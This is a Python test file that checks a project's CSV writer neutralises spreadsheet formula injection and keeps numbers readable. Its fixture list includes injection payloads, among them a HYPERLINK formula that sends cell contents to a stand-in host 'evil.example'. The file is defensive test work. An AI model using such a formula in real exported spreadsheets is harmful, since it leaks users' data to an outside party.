"""Every CSV brassmap writes is formula-safe and reads back (issue #10, item 4)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from data import schema as S
from data.csv_out import csv_bytes, write_csv

PROJECT = Path(__file__).resolve().parent.parent.parent
FORMULAS = ["=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "@SUM(A1:A9)", "+1+1", "-2+3", "\tcmd", "\rcmd",
            "\x00nul"]  # fmt: skip


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_formula_cells_are_prefixed_and_quoted_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "value": pd.array(FORMULAS, dtype="string"),
            "mixed": pd.Series([*FORMULAS[:-1], -83.1], dtype=object),
            "row": range(2, 2 + len(FORMULAS)),
            "longitude": [-83.1] * len(FORMULAS),
            "kind": pd.Categorical(["=cat"] * len(FORMULAS)),
        }
    )
    data = csv_bytes(frame)
    rows = _cells(data)
    assert rows[0] == ["value", "mixed", "row", "longitude", "kind"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert rows[-1][1] == "-83.1", "a number in a mixed column stays a number"
    assert all(r[4] == "'=cat" for r in rows[1:])
    text = data.decode("utf-8-sig")
    assert "\"'=HYPERLINK(" in text and "\"'@SUM(A1:A9)\"" in text, "prefixed cells are quoted"
    assert re.search(r",-83\.1,\"'=cat\"\r\n", text), "numbers are written unquoted"
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["longitude"].dtype.kind == "f" and back["row"].tolist() == list(frame["row"])


def test_input_frame_is_not_changed(tmp_path: Path) -> None:
    frame = pd.DataFrame({"value": ["=1+2"]})
    write_csv(frame, tmp_path / "x.csv")
    assert frame["value"].tolist() == ["=1+2"]
    assert _cells((tmp_path / "x.csv").read_bytes())[1] == ["'=1+2"]


def test_no_module_writes_csv_but_the_one_writer() -> None:
    """``to_csv(`` and ``csv.writer`` appear only in data/csv_out.py (and the benchmark's input fixture)."""
    allowed = {PROJECT / "data" / "csv_out.py", PROJECT / "bench" / "ingest.py"}
    offenders = []
    for folder in ("data", "geo", "linking", "ui", "bench"):
        for path in (PROJECT / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if path not in allowed and re.search(r"\.to_csv\(|csv\.(Dict)?[Ww]riter\(", text):
                offenders.append(str(path.relative_to(PROJECT)))
    offenders += [name for name in ("dashboard.py",) if ".to_csv(" in (PROJECT / name).read_text()]
    assert offenders == []


@pytest.mark.parametrize("column", [S.REJECT_FIELD, S.REJECT_VALUE, S.REJECT_REASON])
def test_rejects_report_cells_are_neutralised(tmp_path: Path, column: str) -> None:
    from data.importer import write_rejects

    report = pd.DataFrame(
        {S.REJECT_ROW: [3], S.REJECT_FIELD: ["latitude"], S.REJECT_VALUE: ["142"], S.REJECT_REASON: ["bad"],
         S.REJECT_SEVERITY: ["error"]}
    )  # fmt: skip
    report[column] = "@SUM(A1)"
    rows = _cells(write_rejects(report, tmp_path / "r.csv").read_bytes())
    assert rows[1][list(report.columns).index(column)] == "'@SUM(A1)"
    assert rows[1][0] == "3"
